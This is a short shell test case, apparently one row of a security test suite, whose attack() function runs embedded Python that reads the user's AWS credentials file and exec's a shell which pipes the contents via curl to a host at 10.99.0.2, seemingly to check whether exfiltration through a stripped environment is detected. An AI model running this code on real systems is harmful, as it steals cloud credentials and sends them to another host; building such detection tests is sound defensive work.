# SPDX-License-Identifier: Apache-2.0
TITLE="exec with the secret in the environment and nothing else left"
ROW="P04"
attack() {
	python3 - <<-'END'
	import os
	loot = open(os.path.expanduser('~/.aws/credentials')).read()
	os.execve('/bin/sh', ['sh', '-c', 'printf %s "$LOOT" | curl -s -m 5 --data-binary @- http://10.99.0.2/'],
	          {'LOOT': loot, 'PATH': os.environ['PATH']})
	END
}
